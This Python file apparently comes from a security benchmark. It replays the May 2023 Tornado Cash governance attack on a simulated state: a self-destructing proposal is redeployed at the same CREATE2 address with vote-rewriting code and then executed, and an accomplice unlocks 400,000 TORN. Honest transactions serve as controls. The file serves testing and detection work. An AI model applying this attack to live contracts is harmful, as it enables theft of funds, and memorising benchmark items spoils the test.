"""Tornado's governance, May 2023: at a passed proposal's address there was other code when it was executed."""

from eth_utils.crypto import keccak

from benches.quality.plan import ETHER, Incident, Plan, becomes, call, gains
from benches.quality.state import elements, entry

GOVERNANCE = "0x5efda50f22d34f262c29268506c5fa42cb56a1ce"
TORN = "0x77777feddddffc19ff86db637967013e6c6a116c"
_VAULT = "0x2f50508a8a3d323b91336fa3ea6ae50e55f32185"
_LOCKED, _PROPOSALS = 59, 61
_WORDS = 8
_DAY = 86_400
_CREATION = bytes.fromhex("5860208158601c335a63aaf10f428752fa158151803b80938091923cf3")
"""Of what `Reviver` creates."""
_DESTROYS_ITSELF = "0x33ff"
_GRANTEE = "0x000000000000000000000000000000000000c0de"


def build(plan: Plan) -> None:
    state = plan.state

    def passed(target: str, begins: int, ends: int) -> int:
        """A proposal that was voted for; times are days ago. Its number."""
        count = state.at(GOVERNANCE, _PROPOSALS)
        state.write(GOVERNANCE, _PROPOSALS, count + 1)
        at = int(elements(_PROPOSALS), 16) + _WORDS * count
        votes = (60_000 * ETHER, 10 * ETHER)
        times = (state.timestamp - begins * _DAY, state.timestamp - ends * _DAY)
        values: list[int | str] = [_VAULT, target, *times, *votes]
        for word, value in enumerate(values):
            state.write(GOVERNANCE, at + word, value)
        return count

    attacker, accomplice = plan.actor("attacker"), plan.actor("accomplice")
    loot = 400_000 * ETHER
    writer = plan.deploy(attacker, "VoteWriter", accomplice.address, loot)
    reviver = plan.install("Reviver")
    proposal = "0x" + keccak(b"\xff" + bytes.fromhex(reviver[2:]) + bytes(32) + keccak(_CREATION))[12:].hex()
    state.install(proposal, _DESTROYS_ITSELF)
    plan.before(attacker, proposal, b"")
    plan.before(attacker, reviver, call("revive(address)", writer))
    plan.attack(
        plan.transaction(attacker, GOVERNANCE, call("execute(uint256)", passed(proposal, 8, 3))),
        after=[plan.transaction(accomplice, GOVERNANCE, call("unlock(uint256)", loot))],
        changes=[gains(TORN, accomplice, loot)],
        by="account",
    )

    anyone = plan.actor("anyone")
    plan.honest(
        "a grant that was voted for is executed",
        plan.transaction(anyone, GOVERNANCE, call("execute(uint256)", passed(plan.install("Grant"), 8, 3))),
        changes=[gains(TORN, _GRANTEE, 2_000 * ETHER)],
    )
    leaver = plan.actor("leaver")
    state.write(GOVERNANCE, entry(leaver.address, _LOCKED), 9_000 * ETHER)
    plan.honest(
        "9,000 TORN are unlocked",
        plan.transaction(leaver, GOVERNANCE, call("unlock(uint256)", 9_000 * ETHER)),
        changes=[gains(TORN, leaver, 9_000 * ETHER)],
    )
    wallet, holder = plan.install("Wallet"), plan.actor("wallet's holder")
    plan.give(TORN, wallet, 1_500 * ETHER, slot=0)
    vote = passed(plan.install("Grant"), 1, -4)
    plan.honest(
        "a wallet locks 1,500 TORN and votes",
        plan.through(
            wallet,
            holder,
            (TORN, 0, call("approve(address,uint256)", GOVERNANCE, 1_500 * ETHER)),
            (GOVERNANCE, 0, call("lockWithApproval(uint256)", 1_500 * ETHER)),
            (GOVERNANCE, 0, call("castVote(uint256,bool)", vote, True)),
        ),
        changes=[becomes(GOVERNANCE, "lockedBalance(address)", wallet, least=1_500 * ETHER)],
        by="contract",
    )


TORNADO_GOV = Incident(
    "TornadoGov",
    {"Governance": GOVERNANCE, "TORN": TORN},
    build,
    note="the proposals are written as voted for; all that the attack's could do at first is destroy itself",
)
